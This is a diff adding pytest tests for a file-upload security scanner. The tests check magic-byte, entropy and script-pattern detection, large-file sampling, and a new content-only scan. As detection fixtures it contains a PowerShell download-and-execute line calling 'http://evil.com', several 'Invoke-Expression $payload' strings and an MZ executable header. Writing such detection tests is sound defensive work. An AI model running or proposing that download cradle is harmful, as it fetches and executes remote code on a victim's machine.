@@ -1,5 +1,6 @@
 # Codes By Visionnn
 
+import logging
 import os
 import struct
 import tempfile
@@ -7,11 +8,13 @@ from pathlib import Path
 
 import pytest
 
+from config import DANGEROUS_SIGNATURES
 from security import (
     check_extension,
     check_magic_bytes,
     check_entropy,
     check_script_patterns,
+    scan_content,
     scan_file,
 )
 
@@ -115,6 +118,16 @@ class TestCheckMagicBytes:
         finally:
             p.unlink()
 
+    @pytest.mark.parametrize("offset,signature,description", DANGEROUS_SIGNATURES)
+    def test_every_configured_signature_detected(self, offset, signature, description):
+        p = _make_temp_file(b"\x00" * offset + signature + b"\x00" * 32)
+        try:
+            is_safe, reason = check_magic_bytes(p)
+            assert is_safe is False
+            assert description in reason
+        finally:
+            p.unlink()
+
 
 class TestCheckEntropy:
     def test_low_entropy_text(self):
@@ -148,6 +161,25 @@ class TestCheckEntropy:
         finally:
             p.unlink()
 
+    def test_high_entropy_tail_detected(self):
+        import secrets
+        content = b"A" * 128 * 1024 + secrets.token_bytes(65536)
+        p = _make_temp_file(content, suffix=".bin")
+        try:
+            is_safe, reason = check_entropy(p)
+            assert is_safe is False
+        finally:
+            p.unlink()
+
+    def test_pure_python_fallback_matches(self, monkeypatch):
+        """Entropy is the same with and without NumPy."""
+        import secrets
+        import security
+        data = secrets.token_bytes(4096) + b"A" * 4096
+        expected = security._calculate_entropy(data)
+        monkeypatch.setattr(security, "np", None)
+        assert security._calculate_entropy(data) == pytest.approx(expected)
+
 
 class TestCheckScriptPatterns:
     def test_safe_content(self):
@@ -168,6 +200,32 @@ class TestCheckScriptPatterns:
         finally:
             p.unlink()
 
+    def test_pattern_in_mapped_file(self):
+        """Files above the read-outright threshold are searched via mmap."""
+        content = b"A" * 64 * 1024 + b"Invoke-Expression $payload"
+        p = _make_temp_file(content)
+        try:
+            is_safe, _ = check_script_patterns(p)
+            assert is_safe is False
+        finally:
+            p.unlink()
+
+    def test_large_file_sampled_at_both_ends(self, monkeypatch):
+        monkeypatch.setattr("security._MAX_PATTERN_SCAN_SIZE", 16 * 1024)
+        monkeypatch.setattr("security._PATTERN_SAMPLE_SIZE", 1024)
+        filler = b"A" * 32 * 1024
+        for content, expected in [
+            (filler + b"Invoke-Expression $payload", False),
+            (b"Invoke-Expression $payload" + filler, False),
+            (filler + b"Invoke-Expression $payload" + filler, True),  # Not sampled
+        ]:
+            p = _make_temp_file(content)
+            try:
+                is_safe, _ = check_script_patterns(p)
+                assert is_safe is expected
+            finally:
+                p.unlink()
+
     def test_invoke_expression(self):
         content = b"IEX(New-Object Net.WebClient).DownloadString('http://evil.com')"
         p = _make_temp_file(content)
@@ -186,6 +244,26 @@ class TestCheckScriptPatterns:
         finally:
             p.unlink()
 
+    def test_case_insensitive_match_reports_pattern(self):
+        content = b"Some text\n$x = INVOKE-EXPRESSION $payload\n"
+        p = _make_temp_file(content)
+        try:
+            is_safe, reason = check_script_patterns(p)
+            assert is_safe is False
+            assert "Invoke-Expression" in reason
+        finally:
+            p.unlink()
+
+    def test_empty_file(self):
+        """Empty files cannot be memory-mapped but must still scan cleanly."""
+        p = _make_temp_file(b"")
+        try:
+            assert check_magic_bytes(p) == (True, "")
+            assert check_entropy(p) == (True, "")
+            assert check_script_patterns(p) == (True, "")
+        finally:
+            p.unlink()
+
 
 class TestScanFile:
     def test_safe_file_passes_all(self):
@@ -216,3 +294,47 @@ class TestScanFile:
         finally:
             p.unlink()
 
+    def test_file_mapped_once(self, monkeypatch):
+        import security
+
+        calls = []
+        real_mapped_file = security._mapped_file
+
+        def counting_mapped_file(filepath):
+            calls.append(filepath)
+            return real_mapped_file(filepath)
+
+        monkeypatch.setattr(security, "_mapped_file", counting_mapped_file)
+        p = _make_temp_file(b"Hello, this is a safe document.\n" * 50, suffix=".txt")
+        try:
+            assert scan_file(p) == (True, "")
+            assert len(calls) == 1
+        finally:
+            p.unlink()
+
+
+class TestScanContent:
+    def test_skips_extension_check(self):
+        p = _make_temp_file(b"Hello, this is a safe document.\n" * 50, suffix=".exe")
+        try:
+            assert scan_content(p) == (True, "")
+        finally:
+            p.unlink()
+
+    def test_mz_header_blocked(self):
+        p = _make_temp_file(b"MZ\x90\x00" + b"\x00" * 200, suffix=".dat")
+        try:
+            is_safe, reason = scan_content(p)
+            assert is_safe is False
+        finally:
+            p.unlink()
+
+    def test_failure_not_logged_as_warning(self, caplog):
+        # Runs on a background thread during upload; must not print mid-prompt
+        p = _make_temp_file(b"MZ\x90\x00" + b"\x00" * 200, suffix=".dat")
+        try:
+            with caplog.at_level(logging.DEBUG):
+                assert scan_content(p)[0] is False
+            assert not [r for r in caplog.records if r.levelno >= logging.WARNING]
+        finally:
+            p.unlink()